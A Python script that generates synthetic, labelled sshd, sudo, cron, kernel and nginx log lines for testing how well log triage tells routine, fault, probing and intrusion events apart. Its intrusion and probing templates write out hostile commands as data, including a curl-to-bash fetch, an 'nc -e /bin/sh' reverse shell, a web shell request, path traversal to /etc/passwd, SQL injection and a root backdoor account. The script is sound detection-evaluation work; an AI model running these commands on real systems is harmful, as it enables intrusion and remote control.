# ruff: noqa: E501
"""Lines of logs whose labels are known, in the formats of sshd, sudo, cron, systemd, the kernel, dpkg and nginx.

``python -m lavra.evaluation.recipes.logs FOLDER`` writes ``train.jsonl``, ``test.jsonl`` and ``unseen.jsonl``, a line's
``text`` and ``label`` each: *routine*, *fault* (something broke), *probing* (somebody tries, and fails), *intrusion*
(somebody is in). The lines of ``unseen.jsonl`` are of kinds that training never shows. They are made by rule, so they
say how well a way of triage tells these kinds apart, not how well it does on a house's own logs: put those in the same
form.
"""

from __future__ import annotations

import json
import sys
from collections.abc import Callable
from pathlib import Path
from random import Random

LABELS = ("routine", "fault", "probing", "intrusion")
_SYSLOG = "{when} {host} "
_CLF = '{ip} - - [{clf}] "'
# The last two of each label are the unseen ones.
KINDS: dict[str, tuple[str, ...]] = {
    "routine": (
        _SYSLOG + "sshd[{pid}]: Accepted publickey for {user} from 10.0.{n}.{m} port {port} ssh2: ED25519 SHA256:{key}",
        _SYSLOG + "systemd[1]: Started {unit}.service.",
        _SYSLOG + "CRON[{pid}]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)",
        _CLF + 'GET {page} HTTP/1.1" 200 {size} "-" "{agent}"',
        _CLF + 'GET /static/{word}.css HTTP/2.0" 304 0 "https://{host}.example.org{page}" "{agent}"',
        "{iso} status installed lib{word}{n}:amd64 {n}.{m}-1",
        _SYSLOG + "sudo:   {user} : TTY=pts/{n} ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/apt-get update",
        _SYSLOG + "sshd[{pid}]: pam_unix(sshd:session): session closed for user {user}",
        _SYSLOG + "systemd-logind[{pid}]: New session {port} of user {user}.",
        _SYSLOG + "postfix/smtp[{pid}]: {key}: to=<{user}@example.org>, relay=mail.example.org[{ip}]:25, delay=0.{n}, status=sent",
    ),
    "fault": (
        _SYSLOG + "kernel: Out of memory: Killed process {pid} ({unit}) total-vm:{size}kB, anon-rss:{port}kB",
        _SYSLOG + "kernel: EXT4-fs error (device sda{n}): ext4_find_entry:1455: inode #{port}: comm {unit}: reading directory lblock 0",
        _SYSLOG + "systemd[1]: {unit}.service: Failed with result 'exit-code'.",
        _CLF + 'GET {page} HTTP/1.1" 502 157 "-" "{agent}"',
        _CLF + 'POST {page} HTTP/1.1" 500 {size} "-" "{agent}"',
        "{day} [error] {pid}#{pid}: *{n} connect() failed (111: Connection refused) while connecting to upstream, client: {ip}",
        _SYSLOG + "smartd[{pid}]: Device: /dev/sd{letter} [SAT], {n} Currently unreadable (pending) sectors",
        _SYSLOG + "dockerd[{pid}]: level=error msg=\"no space left on device\" container={key}",
        _SYSLOG + "postgres[{pid}]: FATAL:  remaining connection slots are reserved for non-replication superuser connections",
        _SYSLOG + "kernel: nvme nvme{n}: I/O {port} QID {m} timeout, aborting",
    ),
    "probing": (
        _SYSLOG + "sshd[{pid}]: Failed password for invalid user {stranger} from {ip} port {port} ssh2",
        _SYSLOG + "sshd[{pid}]: Invalid user {stranger} from {ip} port {port}",
        _SYSLOG + "sshd[{pid}]: Failed password for root from {ip} port {port} ssh2",
        _CLF + 'GET /{hole} HTTP/1.1" 404 {size} "-" "{tool}"',
        _CLF + "GET {page}?id=1%27%20OR%201=1-- HTTP/1.1\" 403 {size} \"-\" \"{tool}\"",
        _SYSLOG + "kernel: [UFW BLOCK] IN=eth0 OUT= SRC={ip} DST=10.0.{n}.{m} LEN=40 TTL=24{n} PROTO=TCP SPT={port} DPT=23",
        _SYSLOG + "sshd[{pid}]: Connection closed by authenticating user root {ip} port {port} [preauth]",
        _CLF + 'GET /cgi-bin/../../../../etc/passwd HTTP/1.1" 400 {size} "-" "{tool}"',
        _SYSLOG + "sshd[{pid}]: error: maximum authentication attempts exceeded for {stranger} from {ip} port {port} ssh2 [preauth]",
        _SYSLOG + "sudo:   www-data : user NOT in sudoers ; TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/sh",
    ),
    "intrusion": (
        _SYSLOG + "sshd[{pid}]: Accepted password for root from {ip} port {port} ssh2",
        _SYSLOG + "sudo: www-data : TTY=unknown ; PWD=/var/www/html ; USER=root ; COMMAND=/bin/bash",
        _CLF + 'POST /uploads/{word}.php?cmd=id HTTP/1.1" 200 {size} "-" "{tool}"',
        _CLF + 'GET /download?file=../../../../etc/passwd HTTP/1.1" 200 {size} "-" "{tool}"',
        _SYSLOG + "useradd[{pid}]: new user: name={stranger}, UID=0, GID=0, home=/root, shell=/bin/bash",
        _SYSLOG + "CRON[{pid}]: (www-data) CMD (curl -s http://{ip}/{word}.sh | bash)",
        _SYSLOG + "kernel: {word}: loading out-of-tree module taints kernel, unsigned, from /dev/shm/.{word}.ko",
        _SYSLOG + "sshd[{pid}]: Accepted password for {stranger} from {ip} port {port} ssh2",
        _SYSLOG + "crontab[{pid}]: (www-data) REPLACE (www-data): * * * * * nc -e /bin/sh {ip} {port}",
        _SYSLOG + "systemd[1]: Started /etc/systemd/system/{word}.service: ExecStart=/tmp/.{word} -o stratum+tcp://{ip}:{port}",
    ),
}  # fmt: skip
_UNSEEN = 2
_AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Version/17.5 Safari/604.1",
)
_VALUES: dict[str, Callable[[Random], object]] = {
    "host": lambda r: r.choice(("web01", "db02", "mail", "gw", "app03")),
    "pid": lambda r: r.randint(300, 32000),
    "port": lambda r: r.randint(1024, 65000),
    "n": lambda r: r.randint(1, 9),
    "m": lambda r: r.randint(1, 250),
    "size": lambda r: r.randint(120, 90000),
    "letter": lambda r: r.choice("abcd"),
    "ip": lambda r: f"{r.choice((203, 198, 192))}.{r.choice((0, 51))}.{r.choice((113, 100, 2))}.{r.randint(1, 254)}",
    "user": lambda r: r.choice(("ana", "joao", "maria", "deploy", "backup", "pedro")),
    "stranger": lambda r: r.choice(("admin", "oracle", "test", "postgres", "ubuntu", "guest", "ftpuser", "support")),
    "unit": lambda r: r.choice(("nginx", "postgresql", "redis-server", "docker", "cron", "mariadb", "gunicorn")),
    "word": lambda r: r.choice(("main", "theme", "vault", "sync", "index", "cache", "print", "agent", "update")),
    "page": lambda r: r.choice(("/", "/contact", "/api/v1/orders", "/login", "/products", "/search", "/account")),
    "hole": lambda r: r.choice((".env", "wp-login.php", "phpmyadmin/", ".git/config", "admin.php", "xmlrpc.php")),
    "agent": lambda r: r.choice(_AGENTS),
    "tool": lambda r: r.choice(("curl/8.5.0", "python-requests/2.31.0", "Mozilla/5.0 zgrab/0.x", "sqlmap/1.8", *_AGENTS)),
    "key": lambda r: "".join(r.choices("ABCDEFabcdef0123456789", k=12)),
    "clf": lambda r: f"{r.randint(10, 28)}/Nov/2025:{r.randint(10, 23)}:{r.randint(10, 59)}:{r.randint(10, 59)} +0000",
    "when": lambda r: f"Nov {r.randint(10, 28)} {r.randint(10, 23)}:{r.randint(10, 59)}:{r.randint(10, 59)}",
    "iso": lambda r: f"2025-11-{r.randint(10, 28)} {r.randint(10, 23)}:{r.randint(10, 59)}:{r.randint(10, 59)}",
    "day": lambda r: f"2025/11/{r.randint(10, 28)} {r.randint(10, 23)}:{r.randint(10, 59)}:{r.randint(10, 59)}",
}  # fmt: skip


def lines(count: int, seed: int, *, unseen: bool = False) -> list[dict[str, str]]:
    """``count`` different lines, as many of each label; of the kinds for training, or of the unseen ones."""
    random = Random(seed)
    found: dict[str, str] = {}
    while len(found) < count:
        label = LABELS[len(found) % len(LABELS)]
        kinds = KINDS[label][-_UNSEEN:] if unseen else KINDS[label][:-_UNSEEN]
        values = {name: draw(random) for name, draw in _VALUES.items()}
        found.setdefault(random.choice(kinds).format(**values), label)
    return [{"text": text, "label": label} for text, label in found.items()]


def write(folder: Path, *, training: int = 600, testing: int = 200, seed: int = 0) -> None:
    """The three files; no line of training is tested."""
    folder.mkdir(parents=True, exist_ok=True)
    both = lines(training + testing, seed)
    for name, rows in {
        "train": both[:training],
        "test": both[training:],
        "unseen": lines(testing, seed + 1, unseen=True),
    }.items():
        text = "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows)
        (folder / f"{name}.jsonl").write_text(text, encoding="utf-8")


if __name__ == "__main__":
    write(Path(sys.argv[1] if len(sys.argv) > 1 else "logs"))
